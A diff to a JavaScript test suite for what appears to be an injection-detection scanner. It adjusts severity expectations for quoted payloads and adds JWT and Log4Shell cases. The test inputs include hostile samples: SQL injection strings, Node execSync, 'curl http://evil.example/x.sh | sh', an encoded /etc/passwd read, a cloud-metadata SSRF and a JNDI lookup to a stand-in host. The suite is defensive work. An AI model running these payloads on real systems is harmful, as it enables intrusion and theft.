@@ -396,21 +396,28 @@ describe('variables, relative paths and code quoted by developers', () => {
     assert.deepEqual(sev('../README.md', 'traversal.dot-dot-path'), ['high']);
     assert.deepEqual(sev("$_SERVER['DOCUMENT_ROOT']", 'php.superglobal'), ['high']);
   });
-  test('a quoted LIKE or $where break-out in a code span is medium; the bare payload is high', () => {
-    assert.deepEqual(sev("the bug: `name' LIKE '%` matched every row", 'sqli.like-breakout'), ['medium']);
+  test('a LIKE or $where break-out stays high in a code span: quoted into a string literal, it still breaks out', () => {
+    assert.deepEqual(sev("the bug: `name' LIKE '%` matched every row", 'sqli.like-breakout'), ['high']);
     assert.deepEqual(sev("name' LIKE '%", 'sqli.like-breakout'), ['high']);
-    assert.deepEqual(sev("use `x'; return true; var y='` to reproduce", 'nosqli.js-string-breakout'), ['medium']);
+    assert.deepEqual(sev("use `x'; return true; var y='` to reproduce", 'nosqli.js-string-breakout'), ['high']);
     assert.deepEqual(sev("'; return true; var x='", 'nosqli.js-string-breakout'), ['high']);
   });
 });
 
 describe('developer content: code quoted the Markdown way, forwarded mail, lists', () => {
   const sev = severitiesOf;
-  test('a snippet inside a closed fence or a span with prose beside it is medium', () => {
-    assert.deepEqual(sev("Try:\n```js\nconst fs = require('fs')\n```\nthen run it", 'js-injection.node-rce'), ['medium']);
-    assert.deepEqual(sev('```js\nawait fs.readFile("README.md", "utf8");\n```', 'php.code-execution-call'), ['medium']);
-    assert.deepEqual(sev('```js\nsleep(1000)\n```', 'sqli.time-based'), ['medium']);
+  test('a shell command inside a closed fence or a span with prose beside it is medium', () => {
     assert.deepEqual(sev('a terminal (`cmd.exe` or\npowershell) needs chcp 65001', 'cmdi.separator-command'), ['medium']);
+    assert.deepEqual(sev('Run this:\n```\ncurl -s https://api.example.com/v1/health | jq .\n```\nthanks', 'cmdi.newline-command'), ['medium']);
+  });
+  test('code that still runs inside the quoting is not lowered: JS templates, PHP, SQL string literals', () => {
+    assert.deepEqual(sev("1 `${require('child_process').execSync('id')}` done", 'js-injection.node-rce'), ['critical']);
+    assert.deepEqual(sev("Try:\n```js\nconst fs = require('fs')\n```\nthen run it", 'js-injection.node-rce'), ['critical']);
+    assert.deepEqual(sev('```\n1\' OR SLEEP(5)=0 OR \'a\'=\'a\n```', 'sqli.time-based'), ['critical']);
+    assert.deepEqual(sev('127.0.0.1\n~~~\ncurl http://evil.example/x.sh | sh\n~~~', 'cmdi.separator-command'), ['critical']);
+  });
+  test('a decoy in a fence does not lower a payload that a decoded variant carries outside it', () => {
+    assert.deepEqual(sev('```\nid\n```\n%3B%20cat%20/etc/passwd', 'cmdi.separator-command'), ['critical']);
   });
   test('the same payload outside the code, or after a fence that is not one, still blocks', () => {
     assert.deepEqual(sev("require('child_process').exec('id')\n```\n```", 'js-injection.node-rce'), ['critical']);
@@ -442,11 +449,24 @@ describe('JSON Web Tokens', () => {
   });
   test('an injection in the header an application reads before the signature is found', () => {
     const traversal = findingsFor(bearer({ alg: 'HS256', kid: '../../../../dev/null' }));
-    assert.ok(traversal.some((f) => f.category === 'traversal' && f.location === 'header.authorization'), JSON.stringify(traversal));
+    assert.ok(
+      traversal.some((f) => f.category === 'traversal' && f.location === 'header.authorization.jwt.kid'),
+      JSON.stringify(traversal),
+    );
     const sqli = findingsFor(bearer({ alg: 'HS256', kid: "x' UNION SELECT 'secret" }));
     assert.ok(sqli.some((f) => f.category === 'sqli' && f.severity === 'critical'), JSON.stringify(sqli));
     const ssrf = findingsFor(bearer({ alg: 'RS256', jku: 'http://169.254.169.254/latest/meta-data/keys' }));
     assert.ok(ssrf.some((f) => f.category === 'ssrf'), JSON.stringify(ssrf));
+    // Rules that read a whole value see a header field as one: a `jku` on a private address, a `kid` command.
+    const internal = findingsFor(bearer({ alg: 'RS256', jku: 'http://10.0.0.5/keys' }));
+    assert.ok(internal.some((f) => f.ruleId === 'ssrf.internal-address'), JSON.stringify(internal));
+    const cmd = findingsFor(bearer({ alg: 'HS256', kid: 'a; id' }));
+    assert.ok(cmd.some((f) => f.category === 'cmdi' && f.severity === 'critical'), JSON.stringify(cmd));
+  });
+  test('an unsigned token has its claims inspected', () => {
+    const token = `${b64({ alg: 'none' })}.${b64({ sub: '${jndi:ldap://evil.example/a}' })}.`;
+    const found = findingsFor(`Bearer ${token}`);
+    assert.ok(found.some((f) => f.category === 'log4shell' && f.location === 'header.authorization.jwt-claims.sub'), JSON.stringify(found));
   });
 });
 
